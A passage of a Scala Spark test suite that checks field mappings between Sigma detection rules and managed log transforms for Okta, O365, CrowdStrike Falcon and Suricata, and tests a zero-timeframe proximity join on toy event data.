    // transform rename into a loud failure without waiting for a
    // per-rule golden to notice
    import graft.transform.managed._
    import org.apache.spark.sql.DataFrame
    import org.apache.spark.sql.types.StructType
    def leaves(t: StructType, prefix: String = ""): Seq[String] =
      t.fields.toSeq.flatMap { f =>
        val p = if (prefix.isEmpty) f.name else s"$prefix.${f.name}"
        f.dataType match {
          case s: StructType => p +: leaves(s, p)
          case _ => Seq(p)
        }
      }
    val transforms: Map[String, DataFrame => DataFrame] = Map(
      "okta" -> Okta.apply,
      "o365" -> O365Audit.apply,
      "crowdstrike_falcon" -> CrowdstrikeFalcon.apply,
      "suricata" -> Suricata.apply)
    assert(SigmaRules.handKeptMoves.keySet == transforms.keySet,
      "every hand-kept source must be swept — extend this map with it")
    val probe = spark.range(1)
      .select(col("id").cast("string").as("json"))
    SigmaRules.handKeptMoves.foreach { case (src, moves) =>
      val ls = leaves(transforms(src)(probe).schema).toSet
      moves.foreach { case (raw, target) =>
        assert(ls.contains(target),
          s"$src: hand-kept move '$raw' -> '$target' names no output " +
            s"column of the managed transform (renamed?); columns: " +
            ls.toSeq.sorted.mkString(", "))
      }
      // ... and the maps actually serve these entries
      val ecs = src match {
        case "okta" => SigmaRules.ecsOkta
        case "o365" => SigmaRules.ecsO365
        case "crowdstrike_falcon" => SigmaRules.ecsCrowdstrikeFalcon
        case "suricata" => SigmaRules.ecsSuricata
      }
      moves.foreach { case (raw, target) => assert(ecs(raw) == target) }
    }
    // the sweep bites: a deliberately-broken target (the rename this
    // guards against) must NOT pass the same membership check
    val oktaLeaves = leaves(transforms("okta")(probe).schema).toSet
    assert(oktaLeaves.contains("okta.client.ip"))
    assert(!oktaLeaves.contains("okta.client.ip_addr"),
      "fixture: a renamed target must fail the sweep")
  }

  test("nearProximityMatches: timeframe 0 is exact-timestamp co-occurrence " +
      "on BOTH paths — the fallback must not divide by the timeframe") {
    import java.sql.Timestamp
    def ts(s: String) = new Timestamp(
      java.time.Instant.parse(s"2024-02-01T$s:00Z").toEpochMilli)
    val events = Seq(
      (1L, Option(1L), "purchase", ts("10:00")), // view at the SAME second
      (2L, Option(1L), "view", ts("10:00")),
      (3L, Option(2L), "purchase", ts("11:00")), // view one minute away
      (4L, Option(2L), "view", ts("11:01")),
      (5L, Option(3L), "purchase", ts("12:00")), // co-occurring view BUT
      (6L, Option(3L), "view", ts("12:00")),     // also a co-occurring veto
      (7L, Option(3L), "click", ts("12:00")))
      .toDF("id", "user_id", "event_type", "ts")
    def run(maxBytes: Long) = SigmaRules.nearProximityMatches(events,
        base = col("event_type") === "purchase",
        positives = Seq(col("event_type") === "view"),
        negatives = Seq(col("event_type") === "click"),
        timeframeSeconds = 0L, groupBy = Seq("user_id"),
        broadcastMaxBytes = maxBytes)
      .select(col("id")).collect().map(_.getLong(0)).toSet
    assert(run(64L * 1024 * 1024) == Set(1L), "broadcast path, tf = 0")
    // forcing every selection onto the fallback used to hit pmod(secs, 0):
    // tf = 0 now routes to a plain (group, second) equi join
    assert(run(1L) == Set(1L), "fallback path, tf = 0")
    intercept[IllegalArgumentException] {
      SigmaRules.nearProximityMatches(events,
        base = col("event_type") === "purchase", positives = Nil,
        negatives = Nil, timeframeSeconds = -1L)
    }
  }
}
